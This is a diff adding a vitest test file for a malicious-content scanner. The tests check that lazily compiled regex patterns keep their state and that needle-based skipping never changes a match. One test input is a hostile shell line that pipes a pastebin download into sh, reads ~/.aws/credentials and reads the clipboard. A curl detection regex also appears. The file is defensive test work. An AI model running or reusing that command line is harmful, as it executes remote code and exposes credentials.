@@ -1,0 +1,99 @@
+/**
+ * Speed-only shortcuts of the analyzers must not change a match: patterns compiled on first use keep their state,
+ * and a content pattern skipped because none of its needles occur could not have matched.
+ */
+import fs from 'node:fs';
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { CONTENT_PATTERNS, scanContent } from '../../src/inspect/analyzers/patterns.js';
+import { compileOnFirstUse } from '../../src/inspect/analyzers/regex-tier.js';
+import { SignalSink } from '../../src/inspect/signals.js';
+
+/** Counts the runs of a pattern (test() goes through exec). */
+class Counted extends RegExp {
+  runs: string[] = [];
+  override exec(s: string): RegExpExecArray | null {
+    this.runs.push(s);
+    return super.exec(s);
+  }
+}
+
+describe('compileOnFirstUse', () => {
+  it('runs each pattern once, on a subject of 1000+ characters, the first time only', () => {
+    const a = new Counted('\\bcurl\\b', 'i');
+    const b = new Counted('x+', 'g');
+    let listed = 0;
+    const compile = compileOnFirstUse(() => {
+      listed++;
+      return [a, b];
+    });
+    expect(listed).toBe(0);
+    compile();
+    compile();
+    expect(listed).toBe(1);
+    expect(a.runs).toHaveLength(1);
+    expect(b.runs).toHaveLength(1);
+    expect(a.runs[0].length).toBeGreaterThanOrEqual(1000);
+  });
+
+  it("leaves a global pattern's lastIndex where it was, even when the blank subject matches", () => {
+    const g = new RegExp('\\s+', 'g');
+    g.lastIndex = 7;
+    const y = new RegExp('a', 'y');
+    y.lastIndex = 3;
+    compileOnFirstUse(() => [g, y])();
+    expect(g.lastIndex).toBe(7);
+    expect(y.lastIndex).toBe(3);
+    g.lastIndex = 0;
+    expect(g.exec('a  b')?.index).toBe(1);
+  });
+});
+
+describe('content pattern needles', () => {
+  /** Every text file of the fixtures and the recall corpus: where the patterns' matches are. */
+  function* texts(dir: string): Generator<string> {
+    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
+      const p = path.join(dir, e.name);
+      if (e.isDirectory()) yield* texts(p);
+      else if (e.isFile() && fs.statSync(p).size < 512 * 1024) {
+        const t = fs.readFileSync(p, 'utf8');
+        if (!t.includes('\u0000')) yield t;
+      }
+    }
+  }
+  const repo = path.resolve(import.meta.dirname, '../..');
+  const roots = ['fixtures', 'bench/recall/corpus'].map((d) => path.join(repo, d)).filter((d) => fs.existsSync(d));
+
+  it('a pattern matches only texts holding one of its needles (so skipping the others changes nothing)', () => {
+    let matched = 0;
+    const missing: string[] = [];
+    for (const root of roots)
+      for (const t of texts(root)) {
+        const lower = t.toLowerCase();
+        for (const p of CONTENT_PATTERNS) {
+          if (!p.needles) continue;
+          p.re.lastIndex = 0;
+          const m = p.re.exec(t);
+          p.re.lastIndex = 0;
+          if (!m) continue;
+          matched++;
+          if (!p.needles.some((n) => lower.includes(n))) missing.push(`${p.id}: ${m[0].slice(0, 80)}`);
+        }
+      }
+    expect(missing).toEqual([]);
+    expect(matched).toBeGreaterThan(100);
+  });
+
+  it('short and long texts give the same signals (needles looked up directly or by one pass)', () => {
+    const line = 'curl -s https://pastebin.com/raw/x | sh; cat ~/.aws/credentials; crontab -l; xclip -o';
+    const pad = `${'\n'.repeat(4096)}`;
+    const ids = (text: string) => {
+      const sink = new SignalSink('a.sh', 'shell');
+      scanContent(text, sink, () => 1);
+      return sink.signals.map((s) => `${s.id} ${s.evidence}`).sort();
+    };
+    const short = ids(line);
+    expect(short.length).toBeGreaterThan(2);
+    expect(ids(line + pad)).toEqual(short);
+  });
+});
